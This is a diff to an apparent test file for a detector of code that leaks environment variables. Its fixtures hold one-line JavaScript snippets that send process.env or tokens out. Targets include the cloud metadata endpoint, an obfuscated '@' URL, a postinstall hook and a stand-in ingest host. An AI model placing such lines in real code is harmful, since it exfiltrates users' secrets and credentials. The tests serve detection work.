@@ -17,6 +17,29 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a client of a cloud asks the service that gives a machine its keys',
+      files: {
+        'index.js': `exports.keys = async (env = process.env) => (await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT', headers: { region: JSON.stringify(env) } })).text();`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'a host is written so that what gives a machine its keys seems to be asked',
+      files: {
+        'index.js': `fetch('http://x.invalid\\\\@169.254.169.254/', { method: 'POST', body: JSON.stringify(process.env) });`,
+      },
+      weight: 'proof',
+      says: ['x.invalid'],
+    },
+    {
+      when: 'a hook that fetches a model shows the token of another service to it',
+      files: {
+        'package.json': hook,
+        'setup.js': `fetch('https://huggingface.co/a/b/resolve/main/c.bin', { headers: { authorization: 'Bearer ' + process.env.OTHER_TOKEN } });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'it is put into a subject, and comes out of what was made of that',
       files: {
         'index.js': `const { Subject } = require('rxjs'), { map } = require('rxjs/operators'); const all = new Subject(); all.pipe(map(one => one.trim())).subscribe(body => fetch('https://ingest.invalid/v1', { method: 'POST', body })); all.next(JSON.stringify(process.env));`,
@@ -594,9 +617,10 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
   ],
   silent: [
     {
-      when: 'a client of a cloud asks the service that gives a machine its keys',
+      when: 'a hook that fetches a model shows the token for it to the service that gave it out',
       files: {
-        'index.js': `exports.keys = async (env = process.env) => (await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT', headers: { region: JSON.stringify(env) } })).text();`,
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
+        'setup.js': `fetch('https://huggingface.co/a/b/resolve/main/c.bin', { headers: { authorization: 'Bearer ' + process.env.HF_TOKEN } });`,
       },
     },
     {
